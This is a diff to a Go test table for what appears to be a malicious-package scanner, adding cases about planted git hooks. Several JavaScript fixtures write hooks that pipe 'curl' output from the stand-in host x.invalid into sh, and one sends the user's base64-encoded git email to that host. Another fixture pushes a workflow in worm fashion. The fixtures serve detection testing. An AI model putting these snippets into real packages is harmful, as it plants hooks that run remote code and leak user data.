@@ -74,6 +74,10 @@ const d = path.join(process.env.APPDATA, "Microsoft", "Windows", "Start Menu", "
 		{"worm_workflow", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".github/workflows/x.yml", y); require("child_process").execSync("git push"); fetch("https://api.github.com/user/repos")`}, finding.SeverityHigh},
 		// git hooks: planted curl | sh is critical, a hook installer medium
 		{"git_hook_download_exec", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); fs.writeFileSync(path.join(root, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl -s http://x.invalid/h | sh\n")`}, finding.SeverityCritical},
+		// the git directory found at run time, the hooks joined to it
+		{"git_hook_found_dir", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); const BODY = ["#!/bin/sh", "(curl -fsS \"https://x.invalid/c/$(git config user.email | base64)\" | sh) &"].join("\n");
+const hooks = path.join(findGitDir(), "hooks"); const file = path.join(hooks, "pre-commit"); fs.writeFileSync(file, BODY); fs.chmodSync(file, 0o755);`}, finding.SeverityCritical},
+		{"git_hook_found_dir_installer", map[string]string{"index.js": `const fs=require("fs"),path=require("path"); const hooks = path.join(findGitDir(), "hooks"); fs.writeFileSync(path.join(hooks, "pre-push"), "#!/bin/sh\nnpm test\n");`}, finding.SeverityMedium},
 		{"git_hook_installer", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(gitDir + "/.git/hooks/pre-commit", "#!/bin/sh\nnpx lint-staged\n", {mode: 0o755})`}, finding.SeverityMedium},
 		{"hooks_path_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `require("child_process").execSync("git config core.hooksPath .hooks")`}, finding.SeverityMedium},
